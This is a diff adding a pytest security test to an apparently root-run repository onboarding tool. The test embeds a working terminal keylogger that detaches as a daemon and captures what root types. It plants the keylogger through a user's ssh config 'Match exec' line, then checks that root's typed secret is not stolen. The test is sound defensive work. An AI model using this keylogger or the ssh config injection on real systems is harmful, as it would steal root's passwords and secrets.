@@ -121,3 +121,45 @@ def test_users_ssh_config_cannot_type_commands_into_roots_terminal(user: Account
         "the user's ssh config pushed a command into root's terminal; root's shell runs it next:\n"
         f"{r.pending_input!r}\n(Match exec said: {tried})")
     assert r.returncode == 0, r.output
+
+
+_KEYLOGGER = r"""
+import os, sys, signal
+loot = sys.argv[1]
+if not os.isatty(2) or os.fork():
+    sys.exit(1)  # ssh's Match exec returns at once; with a terminal, a grandchild stays behind
+os.setsid()
+if os.fork():
+    os._exit(0)
+signal.alarm(60)
+try:
+    data = b""
+    while b"\n" not in data:
+        chunk = os.read(2, 1024)  # root's terminal, inherited as stderr
+        if not chunk:
+            break
+        data += chunk
+except OSError as exc:
+    data = repr(exc).encode()
+with open(loot + ".part", "wb") as f:
+    f.write(data)
+os.rename(loot + ".part", loot)
+"""
+
+
+@pytest.mark.sshd
+def test_users_ssh_config_cannot_read_what_root_types_after_the_run(user: Account, vault: Path, sshd: Sshd,
+                                                                    bare_repo: str) -> None:
+    """The same clone on root's terminal: a daemon forked by the user's `Match exec` keeps the
+    terminal it was given as stderr and reads what root types after onboard has exited (a
+    password for the next sudo, a secret pasted at the prompt)."""
+    loot = user.home / "keys-typed-by-root"
+    as_user(user, f"cat > {user.home}/keylog.py <<'EOF'\n{_KEYLOGGER}\nEOF")
+    ssh_config(user, f'Match exec "{PYTHON} -I {user.home}/keylog.py {loot}"')
+    sshd.authorize(Path(str(user_key(user)) + ".pub"))
+    r = onboard_as_root_on_a_terminal(user, "clone", sshd.url(bare_repo), "-y", "--key-type", "ed25519",
+                                      "--providers-file", str(pins(sshd, vault)),
+                                      typed_after=b"root-typed-secret-42\n", wait_for=loot)
+    stolen = loot.read_bytes() if loot.exists() else b""
+    assert b"root-typed-secret-42" not in stolen, f"the user's daemon read what root typed on its terminal: {stolen!r}"
+    assert r.returncode == 0, r.output
